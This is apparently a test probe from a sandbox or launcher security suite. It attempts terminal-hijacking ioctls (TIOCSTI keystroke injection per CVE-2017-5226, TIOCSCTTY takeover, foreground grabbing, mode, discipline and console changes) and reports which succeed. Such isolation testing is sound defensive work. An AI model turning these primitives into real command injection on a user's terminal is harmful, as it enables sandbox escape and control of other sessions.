"""Goes for the terminal of whoever started it: feeds it input, takes it, changes it, writes to it past the
launcher. The argument, JSON, says where it is. Then it prints what terminals answer to or act on."""

import array
import fcntl
import json
import os
import signal
import struct
import sys
import termios
import time

from attacks.lib.attempt import attempt, report

TIOCLINUX, SHIFT_STATE = 0x541C, 6  # ioctl_console(2); the subcode changes nothing

at = json.loads(sys.argv[1])
found = {}


def feed(fd):
    """As if it was typed (CVE-2017-5226)."""
    for byte in b"typed\n":
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))


def take(fd):
    """As the controlling terminal; as root also from another session."""
    fcntl.ioctl(fd, termios.TIOCSCTTY, 1 if os.geteuid() == 0 else 0)


def foreground(fd):
    os.tcsetpgrp(fd, os.getpgrp())


def change(fd):
    mode = array.array("b", bytes(64))
    fcntl.ioctl(fd, termios.TCGETS, mode)
    fcntl.ioctl(fd, termios.TCSETS, mode)


def resize(fd):
    fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("4H", 13, 37, 0, 0))


def hold(fd):
    """Nobody else can open it then."""
    fcntl.ioctl(fd, termios.TIOCEXCL)
    fcntl.ioctl(fd, termios.TIOCNXCL)


def stop(fd):
    fcntl.ioctl(fd, termios.TCXONC, termios.TCOOFF)
    fcntl.ioctl(fd, termios.TCXONC, termios.TCOON)


def discipline(fd):
    fcntl.ioctl(fd, termios.TIOCSETD, struct.pack("i", 0))


def size(fd):
    fcntl.ioctl(fd, termios.TIOCGWINSZ, bytes(8))


def past(fd):
    """A pipe and /dev/null can be written to: only a terminal counts."""
    size(fd)
    os.write(fd, b"past the launcher\n")


def with_path(action, path):
    fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    try:
        action(fd)
    finally:
        os.close(fd)


def console(fd):
    fcntl.ioctl(fd, TIOCLINUX, bytes([SHIFT_STATE]))


for number in signal.SIGTTOU, signal.SIGTTIN, signal.SIGHUP:  # what job control sends
    signal.signal(number, signal.SIG_IGN)
ACTIONS = [take, feed, foreground, change, resize, hold, stop, discipline, size, past]
for action in ACTIONS:
    for fd in range(3):
        found[f"{action.__name__} {fd}"] = attempt(action, fd)
    for name in ["/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1"] + at["names"]:
        found[f"{action.__name__} {name}"] = attempt(with_path, action, name)
found["console /dev/tty1"] = attempt(with_path, console, "/dev/tty1")
found["console /dev/console"] = attempt(with_path, os.fstat, "/dev/console")

if at["report"]:
    sys.stdout = open(at["report"], "w")
report(found)
for text in at["print"]:
    for stream in (1, 2):
        first, _, rest = text.partition("|")
        os.write(stream, first.encode("latin-1"))
        if rest:
            time.sleep(0.02)
        os.write(stream, rest.encode("latin-1") + b"\n")
